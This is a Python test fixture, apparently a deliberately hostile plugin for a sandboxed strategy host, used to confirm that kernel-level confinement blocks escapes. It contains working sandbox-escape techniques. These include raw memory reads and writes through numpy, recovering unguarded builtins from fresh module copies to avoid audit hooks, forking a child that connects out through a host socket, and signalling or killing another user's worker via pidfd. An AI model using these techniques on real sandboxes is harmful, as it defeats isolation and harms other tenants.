# A hostile strategy that goes around the in-process layer to reach the kernel, at `process`:
# - reads and writes raw memory through numpy's __array_interface__ (no audit event);
# - looks for the guards' originals in closures (the trick that worked on guards written in Python);
# - takes unguarded functions from fresh copies of builtin modules, made through importlib so that
#   the attribute guard sees library code, not the strategy;
# - with them: starts a child that would connect to the host's pathname UNIX socket and outlive
#   its worker (_posixsubprocess.fork_exec raises no audit event), opens a pidfd on another
#   author's worker and signals it, and kills it.
# Each attempt's result is printed as JSON; the test checks that the kernel refused each one.
import json, os, sys


def fresh(name):
    import importlib.machinery, importlib.util
    return importlib.util.module_from_spec(importlib.machinery.BuiltinImporter.find_spec(name))


def attempt(report, name, fn):
    try:
        report[name] = ["allowed", repr(fn())[:80]]
    except OSError as e:
        report[name] = ["errno", e.errno, type(e).__name__]
    except BaseException as e:
        report[name] = ["error", type(e).__name__, str(e)[:120]]


def main(data, ctx):
    report = {}
    import numpy as np

    secret = b"raw-memory-check"
    offset = sys.getsizeof(b"") - 1            # where a bytes object's data starts

    class Raw:
        pass

    view = Raw()
    view.__array_interface__ = {"data": (id(secret) + offset, False), "shape": (len(secret),),
                                "typestr": "|u1", "version": 3}
    memory = np.asarray(view)
    report["raw_read"] = bytes(memory) == secret
    memory[0] = ord("R")                         # writes into an immutable bytes object
    report["raw_write"] = secret[:1] == b"R"

    report["closures"] = [getattr(f, "__closure__", None) is not None
                          for f in (os.write, os.fork, __import__("gc").get_objects)]

    posix, sub, sig = fresh("posix"), fresh("_posixsubprocess"), fresh("_signal")
    report["unguarded"] = [type(f).__name__ for f in (sub.fork_exec, posix.pidfd_open)]
    child = ("import socket, time; s = socket.socket(socket.AF_UNIX); s.connect(%r); "
             "s.send(b'escaped'); time.sleep(30)" % ctx.params["socket"])
    args = [b"/usr/bin/python3.11", b"-c", child.encode()]
    errors_read, errors_write = posix.pipe()
    attempt(report, "fork_exec", lambda: sub.fork_exec(
        args, [args[0]], True, (), None, None, -1, -1, -1, -1, -1, -1, errors_read, errors_write,
        False, True, -1, None, None, None, -1, None, False))
    victim = int(ctx.params["victim"])
    attempt(report, "pidfd_open", lambda: posix.pidfd_open(victim))
    attempt(report, "pidfd_send_signal", lambda: sig.pidfd_send_signal(3, 19))
    attempt(report, "kill", lambda: posix.kill(victim, 19))
    try:
        import _xxsubinterpreters
        report["subinterpreters"] = "importable"
    except BaseException as e:
        report["subinterpreters"] = type(e).__name__
    print(json.dumps(report))
    return {"action": "BUY"}
